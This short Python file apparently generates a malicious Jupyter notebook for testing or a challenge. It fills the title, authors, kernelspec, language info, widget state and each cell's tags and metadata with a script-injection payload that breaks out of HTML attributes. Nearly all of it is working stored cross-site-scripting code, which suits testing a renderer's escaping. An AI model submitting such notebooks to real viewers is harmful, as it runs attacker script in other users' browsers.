"""Write scripts into the metadata that a page is made of: titles, ids, languages, kernels."""

import json

CODE = '"><script>vaultscript()</script>'


def submission(nb, folder):
    nb.metadata.title = CODE
    nb.metadata.authors = [{"name": CODE}]
    nb.metadata.language_info = {"name": CODE, "pygments_lexer": CODE, "mimetype": CODE}
    nb.metadata.kernelspec = {"name": CODE, "display_name": CODE, "language": CODE}
    nb.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"x": CODE}}
    nb.nbformat_minor = 4
    for cell in nb.cells:
        cell.pop("id", None)
        cell.metadata.update({"name": CODE, "tags": [CODE], "slideshow": {"slide_type": CODE}})
        cell.metadata["collapsed"] = True
        if "outputs" in cell:
            cell.metadata["execution"] = {"x": CODE}
    return json.dumps(nb)
